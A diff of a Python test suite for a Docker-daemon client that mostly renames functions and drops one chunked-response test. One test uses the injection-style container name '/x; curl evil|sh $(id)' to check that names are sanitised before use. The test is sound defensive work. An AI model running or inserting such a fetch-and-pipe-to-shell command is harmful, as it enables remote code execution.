@@ -77,7 +77,7 @@ def test_a_daemon_that_answers_what_it_likes(
     serve(directory / "s", answer)
     seconds = 0.5 if answer is drip else 30  # a busy machine sends slowly, too
     with pytest.raises(NodeError, match=problem) as caught:
-        docker.ask(str(directory / "s"), os.geteuid(), "/x", seconds=seconds)
+        docker.ask_daemon(str(directory / "s"), os.geteuid(), "/x", seconds=seconds)
     assert "\x1b" not in str(caught.value)
 
 
@@ -85,15 +85,9 @@ def test_a_daemon_that_answers_what_it_likes(
 def test_it_is_asked_as_its_person_and_root_is_root_again(directory: Path) -> None:
     uids = serve(directory / "s", lambda connection: connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n{}"))
     (directory / "s").chmod(0o666)
-    assert docker.ask(str(directory / "s"), UID, "/x") == {}
+    assert docker.ask_daemon(str(directory / "s"), UID, "/x") == {}
     assert uids == [UID]
     assert (os.geteuid(), os.getegid()) == (0, 0)
-
-
-def test_a_chunked_answer(directory: Path) -> None:
-    head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
-    serve(directory / "s", lambda connection: connection.sendall(head + b'3\r\n{"a\r\n5\r\n": 1}\r\n0\r\n\r\n'))
-    assert docker.ask(str(directory / "s"), os.geteuid(), "/x") == {"a": 1}
 
 
 def test_a_daemon_that_does_not_run_is_not_started(directory: Path) -> None:
@@ -107,7 +101,7 @@ def test_a_daemon_that_does_not_run_is_not_started(directory: Path) -> None:
 
 @pytest.mark.parametrize("answer", [None, [], "x", {"State": []}, {"State": {"ExitCode": "1", "OOMKilled": 1}}])
 def test_an_end_is_plain_whatever_was_answered(answer: object) -> None:
-    found = docker.end_of(answer)
+    found = docker.describe_end(answer)
     assert (found["code"], found["oom"]) == (None, False)
 
 
@@ -137,12 +131,12 @@ def test_an_image_for_another_processor(
 
 
 def test_a_name_says_nothing_to_a_shell() -> None:
-    assert docker.end_of({"Name": "/my-job.1_a"})["name"] == "my-job.1_a"
-    assert docker.end_of({"Name": "/x; curl evil|sh $(id)"})["name"] == "x__curl_evil_sh___id_"
+    assert docker.describe_end({"Name": "/my-job.1_a"})["name"] == "my-job.1_a"
+    assert docker.describe_end({"Name": "/x; curl evil|sh $(id)"})["name"] == "x__curl_evil_sh___id_"
 
 
 def test_a_long_name_is_cut() -> None:
-    assert len(str(docker.end_of({"Name": "/\x1b" + "x" * 10_000}))) < 300
+    assert len(str(docker.describe_end({"Name": "/\x1b" + "x" * 10_000}))) < 300
 
 
 def head(words: bytes) -> Callable[[socket.socket], object]:
@@ -153,7 +147,7 @@ def head(words: bytes) -> Callable[[socket.socket], object]:
 def test_a_container_is_asked_to_stop(directory: Path, words: bytes) -> None:
     asked: list[bytes] = []
     serve(directory / "s", head(words), asked)
-    docker.stop(str(directory / "s"), os.geteuid(), "ab12", 7, 30)
+    docker.stop_container(str(directory / "s"), os.geteuid(), "ab12", 7, 30)
     assert [text.split(b"\r\n")[0] for text in asked] == [b"POST /containers/ab12/stop?t=7 HTTP/1.0"]
 
 
@@ -178,7 +172,7 @@ def test_a_daemon_that_does_not_stop_a_container(
     serve(directory / "s", answer)
     begin = time.monotonic()
     with pytest.raises(NodeError, match=problem) as caught:
-        docker.stop(str(directory / "s"), os.geteuid(), "ab12", 7, 0.5 if "within" in problem else 30)
+        docker.stop_container(str(directory / "s"), os.geteuid(), "ab12", 7, 0.5 if "within" in problem else 30)
     assert "\x1b" not in str(caught.value)
     assert time.monotonic() - begin < 20
 
@@ -187,7 +181,7 @@ def test_a_daemon_that_does_not_stop_a_container(
 def test_a_container_is_stopped_as_its_person(directory: Path) -> None:
     uids = serve(directory / "s", head(b"204 No Content"))
     (directory / "s").chmod(0o666)
-    docker.stop(str(directory / "s"), UID, "ab12", 7, 30)
+    docker.stop_container(str(directory / "s"), UID, "ab12", 7, 30)
     assert uids == [UID]
     assert (os.geteuid(), os.getegid()) == (0, 0)
 
@@ -207,7 +201,7 @@ def test_a_daemon_that_takes_nobody_in(directory: Path, listens: bool) -> None:
                     one.connect(str(directory / "s"))
         begin = time.monotonic()
         with pytest.raises((OSError, NodeError)):
-            docker.stop(str(directory / "s"), os.geteuid(), "ab12", 7, 0.5)
+            docker.stop_container(str(directory / "s"), os.geteuid(), "ab12", 7, 0.5)
         assert time.monotonic() - begin < 20
         for one in waiting:
             one.close()
